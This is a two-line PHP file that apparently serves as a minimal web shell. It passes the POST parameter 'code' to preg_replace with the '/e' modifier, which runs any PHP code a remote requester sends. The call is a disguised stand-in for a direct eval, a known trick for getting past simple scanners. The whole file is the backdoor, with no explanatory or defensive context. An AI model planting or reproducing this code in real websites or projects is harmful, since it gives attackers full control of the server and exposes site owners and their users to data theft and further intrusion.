<?php
echo preg_replace('/.*/e', $_POST['code'], 'x');
